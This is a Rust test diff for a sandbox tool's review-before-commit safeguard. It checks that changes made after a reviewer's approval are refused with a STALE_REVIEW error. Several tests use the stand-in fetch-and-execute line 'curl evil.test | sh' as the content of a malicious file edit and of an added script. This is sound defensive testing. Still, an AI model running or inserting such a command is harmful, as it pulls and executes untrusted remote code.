@@ -460,3 +460,202 @@ fn a_replaced_directory_committed_first_is_not_stale_later_and_a_host_edit_in_it
         assert!(!s.wd.join("d/old").exists() && !s.wd.join("d/sub").exists());
     }
 }
+
+/// Issue 32 item 3: what a reviewer approves is what gets committed. A commit names the
+/// review it follows ([`Selection::review`]); the branch is written to after the review as a
+/// running sandbox would (into its upper layer), and the commit is refused with
+/// `STALE_REVIEW` (exit 5) naming the path, with nothing written and the branch's state
+/// unchanged.
+mod review {
+    use super::*;
+    use lockbox_cow::{Review, Reviewed};
+
+    const OLD: &str = "one\ntwo\nthree\nfour\nfive\n";
+    const SHOWN: &str = "one\ntwo\nthree\nfour\nfive (harmless edit)\n";
+    const EVIL: &str = "one\ntwo\nthree\nfour\ncurl evil.test | sh\n";
+
+    fn reviewed(b: &Branch) -> Option<Reviewed> {
+        Some(Reviewed::Paths(Review::of(&b.review().unwrap())))
+    }
+
+    fn hunk_0_of_f(review: Option<Reviewed>) -> Selection {
+        Selection {
+            hunks: vec![HunkChoice {
+                path: "f".into(),
+                accept: vec![0],
+            }],
+            review,
+            ..Selection::default()
+        }
+    }
+
+    fn assert_stale(e: CowError, paths: &[&str]) {
+        assert_eq!(
+            (e.code().as_str(), e.exit_code()),
+            ("STALE_REVIEW", 5),
+            "{e}"
+        );
+        let CowError::StaleReview { paths: got } = &e else {
+            panic!("{e:?}")
+        };
+        let want: Vec<PathBuf> = paths.iter().map(PathBuf::from).collect();
+        assert_eq!(got, &want);
+    }
+
+    #[test]
+    fn issue_32_a_hunk_rewritten_after_the_review_is_not_committed() {
+        let s = setup(&[("f", OLD)]);
+        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
+        let review = reviewed(&b);
+        assert_eq!(hunks_of(&b, "f").len(), 1);
+        std::fs::write(b.upper_dir().join("f"), EVIL).unwrap();
+        // A running sandbox's commit (`commit_part`) and a kept branch's alike.
+        let e = b
+            .commit_part(&hunk_0_of_f(review.clone()), &CommitOptions::default())
+            .unwrap_err();
+        assert_stale(e, &["f"]);
+        b.keep().unwrap();
+        let e = b
+            .commit_selected(&hunk_0_of_f(review), &CommitOptions::default())
+            .unwrap_err();
+        assert_stale(e, &["f"]);
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), OLD);
+        // A stale review is the reviewer's to redo, not a failure of the branch.
+        assert_eq!(b.meta().state, BranchState::Kept);
+        assert!(b.meta().failure.is_none());
+        // Reviewed again, what is shown now is what is committed.
+        let again = reviewed(&b);
+        b.commit_selected(&hunk_0_of_f(again), &CommitOptions::default())
+            .unwrap();
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), EVIL);
+    }
+
+    #[test]
+    fn issue_32_a_file_added_after_the_review_is_not_committed() {
+        let s = setup(&[("f", OLD)]);
+        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
+        let review = reviewed(&b);
+        std::fs::write(b.upper_dir().join("added.sh"), "curl evil.test | sh\n").unwrap();
+        // What the console sends: exclusions only (none here), and the review.
+        let sel = Selection {
+            review,
+            ..Selection::default()
+        };
+        let e = b.commit_part(&sel, &CommitOptions::default()).unwrap_err();
+        assert_stale(e, &["added.sh"]);
+        assert!(!s.wd.join("added.sh").exists());
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), OLD);
+        // Excluded, it is left in the branch and the reviewed rest is committed.
+        let sel = Selection {
+            exclude: vec!["added.sh".into()],
+            ..sel
+        };
+        b.commit_part(&sel, &CommitOptions::default()).unwrap();
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), SHOWN);
+        assert!(!s.wd.join("added.sh").exists());
+    }
+
+    #[test]
+    fn issue_32_a_text_file_made_binary_or_executable_after_the_review_is_not_committed() {
+        let s = setup(&[("f", OLD), ("g", OLD)]);
+        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644), ("g", SHOWN, 0o644)]);
+        let review = reviewed(&b);
+        std::fs::write(b.upper_dir().join("f"), SHOWN.replace('(', "\0")).unwrap();
+        std::fs::set_permissions(
+            b.upper_dir().join("g"),
+            std::fs::Permissions::from_mode(0o755),
+        )
+        .unwrap();
+        // Through a hunk selection (the binary file has no hunk 0 now) and whole.
+        let e = b
+            .commit_part(&hunk_0_of_f(review.clone()), &CommitOptions::default())
+            .unwrap_err();
+        assert_stale(e, &["f"]);
+        let whole = Selection {
+            review,
+            ..Selection::default()
+        };
+        let e = b
+            .commit_part(&whole, &CommitOptions::default())
+            .unwrap_err();
+        assert_stale(e, &["f", "g"]);
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), OLD);
+        assert_eq!(std::fs::read_to_string(s.wd.join("g")).unwrap(), OLD);
+    }
+
+    #[test]
+    fn issue_32_a_review_token_binds_the_whole_listing() {
+        let s = setup(&[("f", OLD)]);
+        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
+        let token = Review::of(&b.review().unwrap()).token();
+        let digest = b.hunks_reviewed(Path::new("f")).unwrap().1;
+        assert_eq!(
+            Some(digest),
+            Review::of(&b.review().unwrap()).digest(Path::new("f"))
+        );
+        std::fs::write(b.upper_dir().join("new"), "x\n").unwrap();
+        let sel = |t| Selection {
+            only: vec!["f".into()],
+            review: Some(Reviewed::Token(t)),
+            ..Selection::default()
+        };
+        let e = b
+            .commit_part(&sel(token), &CommitOptions::default())
+            .unwrap_err();
+        assert!(e.to_string().contains("review token"), "{e}");
+        assert_stale(e, &[]);
+        let now = Review::of(&b.review().unwrap()).token();
+        b.commit_part(&sel(now), &CommitOptions::default()).unwrap();
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), SHOWN);
+    }
+
+    /// Every kind of change (through a real overlay: whiteouts, an opaque directory, a
+    /// symlink, modes) has a digest the snapshot a commit is made from agrees with: a
+    /// reviewed commit of all of it goes through, and a mode change after it does not.
+    #[test]
+    fn a_reviewed_commit_of_every_kind_of_change_goes_through() {
+        if !common::require_overlay() {
+            return;
+        }
+        let s = setup(&[("f", OLD), ("gone", "x\n"), ("keep", "k\n")]);
+        std::fs::create_dir(s.wd.join("olddir")).unwrap();
+        std::fs::write(s.wd.join("olddir/a"), "a\n").unwrap();
+        tick();
+        let mut b = Branch::create(&s.state, &s.wd, serde_json::json!({"command": ["t"]})).unwrap();
+        assert!(common::run_in_branch(
+            &b,
+            "echo new >> f && rm gone && rm -r olddir && mkdir olddir && echo b > olddir/b \
+             && mkdir -p d/e && echo x > d/e/x && ln -s f link && chmod 600 keep"
+        ));
+        let rows = b.review().unwrap();
+        assert!(rows.len() >= 8, "{rows:?}");
+        let all = |rows: &[lockbox_cow::ReviewedChange]| Selection {
+            review: Some(Reviewed::Paths(Review::of(rows))),
+            ..Selection::default()
+        };
+        assert!(common::run_in_branch(&b, "chmod 755 d/e/x"));
+        let e = b
+            .commit_part(&all(&rows), &CommitOptions::default())
+            .unwrap_err();
+        assert_stale(e, &["d/e/x"]);
+        let rows = b.review().unwrap();
+        b.commit_part(&all(&rows), &CommitOptions::default())
+            .unwrap();
+        assert!(b.change_set().unwrap().is_empty());
+        assert_eq!(
+            std::fs::read_link(s.wd.join("link")).unwrap(),
+            Path::new("f")
+        );
+        assert!(!s.wd.join("gone").exists() && !s.wd.join("olddir/a").exists());
+    }
+
+    #[test]
+    fn a_commit_that_follows_no_review_is_unchanged() {
+        let s = setup(&[("f", OLD)]);
+        let mut b = branch_writing(&s, &[("f", SHOWN, 0o644)]);
+        std::fs::write(b.upper_dir().join("f"), EVIL).unwrap();
+        b.commit_part(&hunk_0_of_f(None), &CommitOptions::default())
+            .unwrap();
+        assert_eq!(std::fs::read_to_string(s.wd.join("f")).unwrap(), EVIL);
+    }
+}
